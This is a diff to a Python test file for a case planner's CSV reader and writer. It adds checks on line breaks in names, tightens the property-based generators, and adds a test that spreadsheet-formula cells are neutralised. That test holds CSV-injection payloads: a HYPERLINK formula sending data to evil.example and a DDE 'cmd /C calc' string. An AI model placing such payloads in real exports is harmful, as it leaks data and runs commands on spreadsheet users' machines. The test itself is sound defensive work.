@@ -8,7 +8,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from planner.domain.bounds import MAX_CASE_MINUTES
 from planner.domain.docket import Case
+from planner.domain.text import BIDI_CONTROLS
 from planner.domain.vocabulary import DEFAULT_CASE_MINUTES, CaseStatus, CompletionKind
 from planner.interchange.cases_csv import COLUMNS, decode_csv, read_cases, write_cases
 from planner.interchange.problems import ImportRefused
@@ -174,9 +176,14 @@ def test_line_numbers_count_line_breaks_inside_quoted_cells() -> None:
         '987654321,"Ana\nMaria\nPaz",removal,no,no,Spanish,no,2025-01-02\r\n'
         "111222333,Bo,removal,no,no,Spanish,no,someday\r\n"
     )
+    # A name is one line (planner/domain/text.py): those two are refused, on their own lines.
     assert _problems(text) == [
+        "line 2: case A123-456-789: the name holds a line break (U+000D, character 3 of 7), "
+        "which could change how the text around it is shown: remove it",
+        "line 4: case A987-654-321: the name holds a line break (U+000A, character 4 of 13), "
+        "which could change how the text around it is shown: remove it",
         "line 7, column received (H): 'someday' is not a date: write YYYY-MM-DD or M/D/YYYY "
-        "(2026-03-01 or 3/1/2026)"
+        "(2026-03-01 or 3/1/2026)",
     ]
 
 
@@ -337,7 +344,8 @@ def test_the_export_writes_every_column_plainly() -> None:
 
 
 _CELL = st.text(
-    st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from(",\"\n'"),
+    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters=BIDI_CONTROLS)
+    | st.sampled_from(",\"'"),
     min_size=1,
     max_size=25,
 ).filter(lambda text: text == text.strip() and text)
@@ -346,24 +354,26 @@ _DAYS = st.dates(date(1900, 1, 1), date(2100, 12, 31))
 
 @st.composite
 def case_lists(draw: st.DrawFn) -> list[Case]:
-    a_numbers = draw(st.lists(st.from_regex(r"\d{9}", fullmatch=True), max_size=10, unique=True))
+    a_numbers = draw(st.lists(st.from_regex(r"[0-9]{9}", fullmatch=True), max_size=10, unique=True))
     found = []
     for a_number in a_numbers:
         completed = draw(st.booleans())
+        received = draw(_DAYS)
+        done = draw(_DAYS) if completed else None
         found.append(
             Case(
                 a_number=a_number,
                 name=draw(_CELL),
                 kind=draw(st.sampled_from(KINDS)),
-                received=draw(_DAYS),
+                received=min(received, done) if done else received,  # never completed before
                 detained=draw(st.booleans()),
                 juvenile=draw(st.booleans()),
                 language=draw(_CELL),
                 represented=draw(st.booleans()),
                 status=CaseStatus.COMPLETED if completed else CaseStatus.PENDING,
-                completion_date=draw(_DAYS) if completed else None,
+                completion_date=done,
                 completion_kind=draw(st.sampled_from(CompletionKind)) if completed else None,
-                remaining_minutes=draw(st.none() | st.integers(1, 100_000)),
+                remaining_minutes=draw(st.none() | st.integers(1, MAX_CASE_MINUTES)),
                 asylum_filed=draw(st.none() | _DAYS),
                 nta_served=draw(st.none() | _DAYS),
                 attorney=draw(st.none() | _CELL),
@@ -380,3 +390,32 @@ def test_written_cases_read_back_equal(cases: list[Case]) -> None:
     assert list(found.cases) == cases
     assert (found.added, found.updated) == (len(cases), 0)
     assert write_cases(found.cases) == text
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_read_back() -> None:
+    """Issue 15, point 6: as OWASP recommends against CSV injection, a text cell beginning with
+    = + - @ (or a tab or carriage return) is written after an apostrophe, which a spreadsheet
+    shows as text; the Planner's reader takes the apostrophe off again."""
+    hostile = Case(
+        "100000001",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "asylum",
+        date(2025, 1, 1),
+        language="+Spanish",
+        attorney="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    dashed = Case("100000002", "-2+3", "asylum", date(2025, 1, 1), attorney="-Smith")
+    plain = Case("100000003", "O'Brien", "asylum", date(2025, 1, 1), attorney="'quoted'")
+    text = write_cases([hostile, dashed, plain])
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["name"] == "'" + hostile.name
+    assert rows[0]["language"] == "'+Spanish"
+    assert rows[0]["attorney"].startswith("'@")
+    assert rows[1]["name"] == "'-2+3"
+    assert rows[2]["name"] == "O'Brien"
+    assert rows[2]["attorney"] == "'quoted'"
+    for row in rows:
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    found = read_cases(text, case_kinds=DEFAULT_CASE_MINUTES)
+    assert list(found.cases) == [hostile, dashed, plain]
